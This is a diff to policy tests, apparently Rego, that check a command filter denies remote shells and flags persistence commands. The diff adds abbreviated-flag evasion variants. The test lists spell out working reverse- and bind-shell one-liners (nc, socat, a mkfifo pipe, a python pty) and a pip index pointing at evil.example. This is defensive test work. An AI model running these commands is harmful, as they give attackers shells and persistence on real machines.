@@ -689,7 +689,7 @@ test_reads_of_files_named_at_run_time_are_not_read_only if {
 # the egress proxy are held everywhere; a local forward and a port check are not.
 test_remote_shells_are_denied_and_tunnels_held_everywhere if {
 	every cmd in [
-		"ncat -l 9000 --exec /bin/sh", "nc 203.0.113.9 4444 -e sh", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
+		"ncat -l 9000 --exec /bin/sh", "ncat -l 9000 --exe /bin/sh", "nc 203.0.113.9 4444 -e sh", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
 		"socat tcp:203.0.113.9:4444 system:bash", "sh -i 2>&1 | nc 203.0.113.9 4444",
 		"mkfifo /tmp/f; nc 203.0.113.9 4444 < /tmp/f | sh > /tmp/f",
 		"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
@@ -873,7 +873,7 @@ test_curl_write_out_to_a_file_is_not_a_read if {
 test_commands_that_schedule_or_install_what_runs_later_are_persistence if {
 	every cmd in [
 		"crontab /tmp/cron.txt", "echo '* * * * * id' | crontab -", "at now + 1 minute <<< 'id'",
-		"systemctl --user enable x.service", "systemd-run --user --on-calendar=hourly id", "loginctl enable-linger dev",
+		"systemctl --user enable x.service", "systemd-run --user --on-calendar=hourly id", "systemd-run --user --on-cal=hourly id", "loginctl enable-linger dev",
 		"launchctl load ~/Library/LaunchAgents/x.plist", "npm config set ignore-scripts false",
 		"pip config set global.index-url https://evil.example/simple", "ssh-copy-id user@prod",
 	] {
